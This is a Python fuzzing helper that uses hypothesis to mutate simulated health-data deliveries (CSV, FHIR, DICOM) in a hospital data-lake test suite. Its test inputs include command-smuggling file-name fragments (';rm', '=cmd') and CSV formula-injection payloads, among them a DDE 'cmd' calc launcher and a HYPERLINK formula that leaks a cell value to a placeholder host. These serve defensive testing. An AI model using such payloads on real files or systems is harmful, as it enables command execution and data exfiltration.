"""Hostile and messy versions of a tiny simulated delivery, for the fuzzing suite.

The base is one simulated service day cut down to a few facilities that between them send every
format (QĐ 130 CSV, FHIR Bundle, FHIR NDJSON, DICOM). A `Mutation` changes a copy of its landing
zone the way a careless or hostile sender would: bytes, names (including bytes that are not
UTF-8), numbers at and beyond the limits of their types, encodings, and files duplicated,
misplaced into another facility's or day's folder, or re-stamped with another export_ts.
Mutations pick their file by index (modulo the files present), so hypothesis can shrink them.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

from hypothesis import strategies as st

from hanoi_health_lake.config import landing_dir

BASE_DAY = date(2026, 3, 2)  # a Monday
NEXT_DAY = BASE_DAY + timedelta(days=1)  # where files misplaced into another day go
UNREGISTERED = "01ZZZ"  # a well-formed facility folder the registry does not hold
TS = re.compile(r"__(\d{8}T\d{6})")

# Values at and beyond the limits of the types the silver columns use.
EDGE_NUMBERS = (
    "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
    "-9223372036854775809", "100000000000", "1e308", "-1e309", "NaN", "Infinity", "-0", "0x1F",
    "1_000", "１２３", "99999999999999999999999999",
)  # fmt: skip
ENCODINGS = ("cp1252", "latin-1", "utf-16", "utf-8-sig", "big5", "cp1258", "double-utf8")
NAME_TWISTS = (
    b"\xed",  # a Windows-1252 í: not UTF-8
    b"\xff\xfe",
    "í".encode(),
    b" ",
    b"..",
    b";rm",
    b"=cmd",
)
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"Xem chi tiết")', "+1+1", "-2+3", "@SUM(1,1)",
    "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
)  # fmt: skip
STAMPS = ("20991231T235959", "19700101T000000", "20260302T000000", "SAME", "20260303T120000")


def base_facilities(landing: Path, day: date) -> list[str]:
    """The smallest facility (by bytes) sending each of CSV, FHIR Bundle, NDJSON and DICOM."""
    chosen: dict[str, tuple[int, str]] = {}
    for folder in sorted(landing.iterdir()):
        files = list((folder / day.isoformat()).glob("*"))
        size = sum(f.stat().st_size for f in files)
        for ext in {f.suffix for f in files}:
            if ext not in chosen or size < chosen[ext][0]:
                chosen[ext] = (size, folder.name)
    return sorted({code for _, code in chosen.values()})


def cut_to(home: Path, facilities: list[str]) -> None:
    """Keep only `facilities` in the landing zone (the registry keeps everyone)."""
    for folder in landing_dir(home).iterdir():
        if folder.name not in facilities:
            shutil.rmtree(folder)


def delivered_files(landing: Path) -> list[Path]:
    """Every delivered file as a path (bytes-safe), sorted for a stable index."""
    found = []
    for dirpath, _, names in os.walk(landing):
        found += [Path(dirpath) / n for n in names]
    return sorted(found, key=lambda p: os.fsencode(p))


@dataclass(frozen=True)
class Mutation:
    kind: str
    pick: int  # which file (modulo the files present)
    arg: object = None
    where: int = 0  # a position inside the file, modulo its size

    def apply(self, landing: Path) -> str:
        files = delivered_files(landing)
        if not files:
            return f"{self.kind}: no file left"
        path = files[self.pick % len(files)]
        return getattr(self, f"_{self.kind}")(landing, path)

    # --- bytes ------------------------------------------------------------------------------

    def _flip(self, landing: Path, path: Path) -> str:
        data = bytearray(path.read_bytes())
        if data:
            data[self.where % len(data)] ^= int(self.arg) or 0x80
        path.write_bytes(bytes(data))
        return f"flip byte {self.where % max(len(data), 1)} of {_rel(landing, path)}"

    def _truncate(self, landing: Path, path: Path) -> str:
        data = path.read_bytes()
        cut = self.where % (len(data) + 1)
        path.write_bytes(data[:cut])
        return f"truncate {_rel(landing, path)} at {cut} of {len(data)}"

    def _insert(self, landing: Path, path: Path) -> str:
        data = path.read_bytes()
        at = self.where % (len(data) + 1)
        path.write_bytes(data[:at] + bytes(self.arg) + data[at:])
        return f"insert {bytes(self.arg)!r} at {at} of {_rel(landing, path)}"

    # --- names -------------------------------------------------------------------------------

    def _rename(self, landing: Path, path: Path) -> str:
        twist = NAME_TWISTS[int(self.arg) % len(NAME_TWISTS)]
        raw = os.fsencode(path.name)
        at = self.where % (len(raw) + 1)
        new = path.parent / os.fsdecode(raw[:at] + twist + raw[at:])
        if twist == b".." or not new.name or new.exists():
            new = path.parent / os.fsdecode(raw + twist.replace(b".", b"_"))
        path.rename(new)
        return f"rename {_rel(landing, path)} → {os.fsencode(new.name)!r}"

    # --- numbers ------------------------------------------------------------------------------

    def _number(self, landing: Path, path: Path) -> str:
        value = EDGE_NUMBERS[int(self.arg) % len(EDGE_NUMBERS)]
        data = path.read_bytes()
        if path.suffix == ".dcm":
            return _dicom_number(landing, path, value)
        digits = list(re.finditer(rb"(?<![0-9A-Za-z])[0-9]+(?:\.[0-9]+)?(?![0-9A-Za-z])", data))
        if not digits:
            return f"number: no number in {_rel(landing, path)}"
        m = digits[self.where % len(digits)]
        path.write_bytes(data[: m.start()] + value.encode() + data[m.end() :])
        return f"number {m.group().decode()} → {value} in {_rel(landing, path)}"

    # --- text that a spreadsheet would run ---------------------------------------------------

    def _formula(self, landing: Path, path: Path) -> str:
        """Replace a ward code (5 digits; else any text value) with a formula."""
        formula = FORMULAS[int(self.arg) % len(FORMULAS)]
        data = path.read_bytes()
        if path.suffix == ".csv":
            pattern, quoted = rb"[,;](\d{5})(?=[,;\r\n])", _csv_quote(formula)
        elif path.suffix in (".json", ".ndjson"):  # string values only, never keys
            pattern, quoted = rb'":\s*"([^"\\]{1,40})"', json.dumps(formula)[1:-1]
        else:
            return f"formula: {_rel(landing, path)} is not text"
        values = list(re.finditer(pattern, data))
        wards = [  # the FHIR ward extension (urn:vn:moh:ext:ma-xa) or CSV MAXA_CU_TRU
            m for m in values if re.fullmatch(rb"\d{5}", m[1]) and (
                path.suffix == ".csv" or b"ma-xa" in data[max(0, m.start() - 40) : m.start()])
        ] or values  # fmt: skip
        if not wards:
            return f"formula: no value in {_rel(landing, path)}"
        m = wards[self.where % len(wards)]
        path.write_bytes(data[: m.start(1)] + quoted.encode() + data[m.end(1) :])
        return f"value {m[1].decode(errors='replace')} → {formula!r} in {_rel(landing, path)}"

    # --- encodings ---------------------------------------------------------------------------

    def _encode(self, landing: Path, path: Path) -> str:
        encoding = ENCODINGS[int(self.arg) % len(ENCODINGS)]
        data = path.read_bytes()
        try:
            text = data.decode("utf-8-sig")
        except UnicodeDecodeError:
            return f"encode: {_rel(landing, path)} is not UTF-8 text"
        if encoding == "double-utf8":  # UTF-8 read as Windows-1252 and saved again
            out = text.encode("utf-8").decode("cp1252", errors="replace").encode("utf-8")
        else:
            out = text.encode(encoding, errors="replace")
        path.write_bytes(out)
        return f"re-encode {_rel(landing, path)} as {encoding}"

    # --- duplicated, misplaced, re-stamped ---------------------------------------------------

    def _duplicate(self, landing: Path, path: Path) -> str:
        """A second copy in the same folder: the same export_ts under another part, or later."""
        name, m = _export_ts(path)
        if not m:
            return f"duplicate: {_rel(landing, path)} has no export_ts"
        if self.arg:  # the same export_ts: a CSV and an NDJSON-like sibling name
            stem, ext = name.rsplit(".", 1)
            new = path.with_name(f"{stem}.copy{self.where % 10}.{ext}")
        else:
            later = f"{m[1][:9]}{(int(m[1][9:11]) + 1) % 24:02d}{m[1][11:]}"
            new = path.with_name(name.replace(m[1], later))
        if new.exists():
            return f"duplicate: {new.name} exists"
        shutil.copyfile(path, new)
        return f"duplicate {_rel(landing, path)} → {new.name}"

    def _misplace(self, landing: Path, path: Path) -> str:
        """Copy into another facility's folder (registered or not) or the next day's folder."""
        rel = path.relative_to(landing)
        facility, day = rel.parts[0], rel.parts[1]
        others = sorted(p.name for p in landing.iterdir() if p.is_dir() and p.name != facility)
        targets = [*others, UNREGISTERED, "next-day"]
        target = targets[self.where % len(targets)]
        if target == "next-day":
            dest = landing / facility / NEXT_DAY.isoformat() / rel.name
        else:
            dest = landing / target / day / rel.name
        if dest.exists():
            return f"misplace: {dest} exists"
        dest.parent.mkdir(parents=True, exist_ok=True)
        if self.arg:
            shutil.move(path, dest)
        else:
            shutil.copyfile(path, dest)
        verb = "move" if self.arg else "copy"
        return f"misplace ({verb}) {rel} → {dest.relative_to(landing)}"

    def _restamp(self, landing: Path, path: Path) -> str:
        name, m = _export_ts(path)
        if not m:
            return f"restamp: {_rel(landing, path)} has no export_ts"
        stamp = STAMPS[int(self.arg) % len(STAMPS)]
        if stamp == "SAME":  # the export_ts of another file of the folder
            stamps = sorted({s[1] for f in path.parent.iterdir() if (s := TS.search(f.name))})
            stamp = stamps[self.where % len(stamps)]
        new = path.with_name(name.replace(m[1], stamp))
        if new.exists():
            return f"restamp: {new.name} exists"
        shutil.copyfile(path, new)
        return f"restamp {_rel(landing, path)} → {new.name} (a copy)"


def _csv_quote(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def _export_ts(path: Path) -> tuple[str, re.Match[str] | None]:
    """The file's name, and the match of its export_ts (group 1) or None when it has none."""
    name = os.fsdecode(path.name)
    return name, TS.search(name)


def _rel(landing: Path, path: Path) -> str:
    return repr(os.fsencode(path.relative_to(landing)))[2:-1]


def _dicom_number(landing: Path, path: Path, value: str) -> str:
    import pydicom

    try:
        ds = pydicom.dcmread(path)
        ds.NumberOfStudyRelatedInstances = value if value.lstrip("-").isdigit() else "100000000000"
        ds.save_as(path)
    except Exception as exc:  # an earlier mutation broke the file: leave it as it is
        return f"number: {_rel(landing, path)} is no longer DICOM ({type(exc).__name__})"
    return f"DICOM NumberOfStudyRelatedInstances = {value} in {_rel(landing, path)}"


# --- strategies --------------------------------------------------------------------------------

_index = st.integers(min_value=0, max_value=10_000)
mutations = st.one_of(
    st.builds(Mutation, st.just("flip"), _index, st.integers(1, 255), _index),
    st.builds(Mutation, st.just("truncate"), _index, st.none(), _index),
    st.builds(
        Mutation,
        st.just("insert"),
        _index,
        st.sampled_from([b"\x00", b"\xff\xfe", b'"', b"\r\n", b"{", b";;;", b"\xc3"]).map(list),
        _index,
    ),
    st.builds(Mutation, st.just("rename"), _index, st.integers(0, len(NAME_TWISTS) - 1), _index),
    st.builds(Mutation, st.just("number"), _index, st.integers(0, len(EDGE_NUMBERS) - 1), _index),
    st.builds(Mutation, st.just("encode"), _index, st.integers(0, len(ENCODINGS) - 1)),
    st.builds(Mutation, st.just("formula"), _index, st.integers(0, len(FORMULAS) - 1), _index),
    st.builds(Mutation, st.just("duplicate"), _index, st.booleans(), _index),
    st.builds(Mutation, st.just("misplace"), _index, st.booleans(), _index),
    st.builds(Mutation, st.just("restamp"), _index, st.integers(0, len(STAMPS) - 1), _index),
)
deliveries = st.lists(mutations, min_size=1, max_size=4)


def describe(applied: list[str]) -> str:
    return json.dumps(applied, ensure_ascii=False, indent=1)
